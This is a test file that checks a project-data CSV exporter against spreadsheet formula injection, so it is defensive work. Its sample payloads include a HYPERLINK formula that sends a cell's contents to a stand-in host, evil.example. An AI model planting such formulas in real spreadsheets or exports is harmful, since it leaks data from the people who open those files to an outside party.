import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { projectsToCsv } from '@/lib/api/project-csv';
import type { ProjectRecord } from '@/lib/data/projects';
import { planCsvImport, type CsvReference, type StoredProject } from '@/lib/import/csv-plan';

// CSV export and formula injection (OWASP "CSV injection", ASVS 5.0 1.2.10): a text cell that a spreadsheet would
// read as a formula starts with a single quote; numbers stay numbers; the import reads the export back unchanged.
const record = (over: Partial<ProjectRecord>): ProjectRecord => ({
  code: 'ZF.0001',
  primaId: 'ZF10P0001',
  title: { en: 'A title', fr: 'Un titre', es: null },
  summary: { en: 'A summary', fr: null, es: null },
  region: { slug: 'africa', nameEn: 'Africa', nameFr: 'Afrique', nameEs: 'África' },
  type: {
    slug: 'labour-migration',
    nameEn: 'Labour migration',
    nameFr: 'Migration de main-d’œuvre',
    nameEs: 'Migración laboral',
  },
  status: 'active',
  coverage: 'national',
  budgetUsd: '100000.00',
  startYear: 2021,
  endYear: 2024,
  fundingYear: 2020,
  updatedAt: '2026-11-01T10:00:00.000Z',
  countries: [{ code: 'SN', nameEn: 'Senegal', nameFr: 'Sénégal', nameEs: 'Senegal' }],
  sourceUrl: null,
  sourceLanguage: 'en',
  ...over,
});
const rows = (csv: string) => parse<Record<string, string>>(csv, { bom: true, columns: true });

const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

describe('projectsToCsv and formula injection', () => {
  it('prefixes every text cell a spreadsheet would run with a single quote', () => {
    const csv = projectsToCsv(
      HOSTILE.map((text, i) =>
        record({
          code: `ZF.000${i}`,
          title: { en: text, fr: null, es: null },
          summary: { en: text, fr: null, es: null },
          type: { slug: 't', nameEn: text, nameFr: text, nameEs: text },
          region: { slug: 'r', nameEn: text, nameFr: text, nameEs: text },
        }),
      ),
      'en',
    );
    for (const [i, row] of rows(csv).entries()) {
      const text = HOSTILE[i]!;
      // Titles and summaries are shown trimmed (so "\t=1+1" is exported as "'=1+1"); names as they are.
      const shown = text.trim();
      expect(row).toMatchObject({ Title: `'${shown}`, Summary: `'${shown}`, Type: `'${text}`, Region: `'${text}` });
    }
  });

  it('leaves other text and numbers as they are (a budget is a number, not text)', () => {
    const plain = record({ title: { en: 'Title = fine', fr: null, es: null }, budgetUsd: '400000.00' });
    const [row] = rows(projectsToCsv([plain], 'en'));
    expect(row).toMatchObject({ Title: 'Title = fine', 'Budget (USD)': '400000.00', 'Start year': '2021' });
    expect(row?.['Project ID']).toBe('ZF.0001');
  });

  it('keeps the quote a title already starts with distinguishable from the one it adds', () => {
    const quoted = record({
      title: { en: "'=not a formula", fr: null, es: null },
      summary: { en: "'quoted", fr: null, es: null },
    });
    const [row] = rows(projectsToCsv([quoted], 'en'));
    expect(row).toMatchObject({ Title: "''=not a formula", Summary: "'quoted" });
  });

  it('reads its own export back unchanged', () => {
    const ref: CsvReference = {
      regions: [{ slug: 'africa', nameEn: 'Africa', nameFr: 'Afrique', nameEs: 'África' }],
      types: [
        {
          slug: 'labour-migration',
          nameEn: 'Labour migration',
          nameFr: 'Migration de main-d’œuvre',
          nameEs: 'Migración laboral',
        },
      ],
      countries: [{ code: 'SN', nameEn: 'Senegal', nameFr: 'Sénégal', nameEs: 'Senegal' }],
    };
    const titles = [...HOSTILE, "'=quoted", "''@twice", "'plain", "'"];
    const records = titles.map((title, i) =>
      record({
        code: `ZF.000${i}`,
        primaId: `ZF10P000${i}`,
        title: { en: title, fr: null, es: null },
        summary: { en: title, fr: null, es: null },
      }),
    );
    const stored = new Map<string, StoredProject>(
      records.map((p) => [
        p.code,
        {
          version: 1,
          snapshot: {
            code: p.code,
            primaId: p.primaId,
            titleEn: p.title.en,
            titleFr: null,
            summaryEn: p.summary.en,
            summaryFr: null,
            status: p.status,
            coverage: p.coverage,
            type: p.type.slug,
            region: p.region.slug,
            budgetUsd: p.budgetUsd,
            startYear: p.startYear,
            endYear: p.endYear,
            fundingYear: p.fundingYear,
            sourceUrl: null,
            countries: ['SN'],
            publicationState: 'published',
          },
        },
      ]),
    );
    const plan = planCsvImport(projectsToCsv(records, 'en'), ref, stored);
    expect(plan.ok && plan.rows.map((r) => r.kind)).toEqual(titles.map(() => 'unchanged'));
  });
});
